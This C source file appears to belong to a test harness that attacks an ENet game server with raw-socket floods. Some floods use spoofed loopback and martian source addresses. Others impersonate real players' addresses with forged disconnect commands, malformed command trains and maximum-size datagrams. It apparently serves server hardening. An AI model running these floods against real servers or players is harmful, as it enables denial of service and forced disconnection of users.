/// attack/spoof.c - raw sockets: senders that the kernel would not allow, and datagrams with the
/// address and port of a real player. Needs root.

#include "attack.h"

#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/// Writes the n-th datagram and its sender.
typedef void write_t(const attack_t *attack, datagram_t *out, struct sockaddr_in *from, uint32_t n);

static void send_at(attack_t *attack, double per_s, write_t *write) {
    int fd = Raw_Open();
    pace_t pace = {.per_s = per_s};
    datagram_t out;
    uint32_t n = 0;
    if (fd < 0) {
        puts("skipped: raw sockets need root");
        exit(0);
    }
    while (Attack_Runs(attack, 1)) {
        uint32_t due = Pace_Take(&pace, attack, 1000);
        for (uint32_t i = 0; i < due; i++) {
            struct sockaddr_in from = {.sin_family = AF_INET};
            out.size = 0;
            write(attack, &out, &from, n++);
            Raw_Send(attack, fd, from, out.bytes, out.size);
        }
    }
}

static void write_any(datagram_t *out, uint32_t n) {
    if (n % 3 == 0) {
        Wire_CookieRequest(out, n);
    } else if (n % 3 == 1) {
        Wire_Connect(out, n, n, n % 100, 1392);
    } else {
        Wire_Begin(out, n % 40, n);
        Wire_Command(out, ENET_PING | ENET_WANTS_ACK, ENET_CONTROL, 1);
    }
}

static void write_port_zero(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
                            uint32_t n) {
    (void)attack;
    from->sin_addr.s_addr = htonl(LOOPBACK(61, 0, 1 + n % 200));
    write_any(out, n);
}

static void port_zero(attack_t *attack) {
    send_at(attack, 2000, write_port_zero);
}

static void write_martian(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
                          uint32_t n) {
    // The kernel replaces a source of 0.0.0.0. Replies to these would stay on this machine too.
    static const uint32_t hosts[] = {0x00000001, 0xe0000001, 0xf0000001, 0xffffffff, 0x00010203};
    (void)attack;
    from->sin_addr.s_addr = htonl(hosts[n % 5]);
    from->sin_port = htons((uint16_t)(1024 + n % 5000));
    write_any(out, n);
}

static void martians(attack_t *attack) {
    send_at(attack, 2000, write_martian);
}

/// Begins a datagram from a victim's address, with a guess of the peer and session numbers. Returns
/// the number of the guess.
static uint32_t begin_as_victim(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
                                uint32_t n) {
    uint32_t guess = n / attack->victims;
    *from = attack->victim[n % attack->victims];
    Wire_Begin(out, guess % 40 | (guess / 40 & 3u) << 12, n);
    return guess;
}

static void send_as_victims(attack_t *attack, double per_s, write_t *write) {
    if (attack->victims > 0) {
        send_at(attack, per_s, write);
    }
}

static void write_disconnect(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
                             uint32_t n) {
    uint32_t id = Attack_Random();
    uint32_t guess = begin_as_victim(attack, out, from, n);
    Wire_Command(out, ENET_DISCONNECT | (guess % 2 ? ENET_UNSEQ_FLAG : ENET_WANTS_ACK),
                 ENET_CONTROL, guess);
    Wire_U32(out, 0);
    Wire_Seal(out, (const uint8_t *)&id);
}

static void forged_disconnect(attack_t *attack) {
    send_as_victims(attack, 10000, write_disconnect);
}

// Whatever costs its sender the connection must not cost a player theirs.
static void write_framed(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
                         uint32_t n) {
    uint32_t id = Attack_Random();
    uint32_t guess = begin_as_victim(attack, out, from, n);
    if (guess % 3 == 0) {
        for (int i = 0; i < 220; i++) {
            Wire_Reliable(out, 0, 5000 - (uint32_t)i, 0);
        }
    } else if (guess % 3 == 1) {
        for (int i = 0; i < 300; i++) {
            Wire_Command(out, ENET_PING | ENET_WANTS_ACK, ENET_CONTROL, (uint32_t)i);
        }
    } else {
        Wire_Command(out, 0xff, 0xff, 0xffff);
    }
    Wire_Seal(out, (const uint8_t *)&id);
}

static void framed(attack_t *attack) {
    send_as_victims(attack, 2000, write_framed);
}

// The longest datagrams that ENet reads, whose checksum costs most.
static void write_framed_large(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
                               uint32_t n) {
    memset(out->bytes, (int)n, sizeof out->bytes);
    begin_as_victim(attack, out, from, n);
    out->size = 4090; // with any checksum: that of the real connection is not known
}

static void framed_large(attack_t *attack) {
    send_as_victims(attack, 5000, write_framed_large);
}

const attack_row_t spoof_rows[] = {
    {"port-zero", port_zero},
    {"martians", martians},
    {"forged-disconnect", forged_disconnect},
    {"framed", framed},
    {"framed-large", framed_large},
    {0},
};
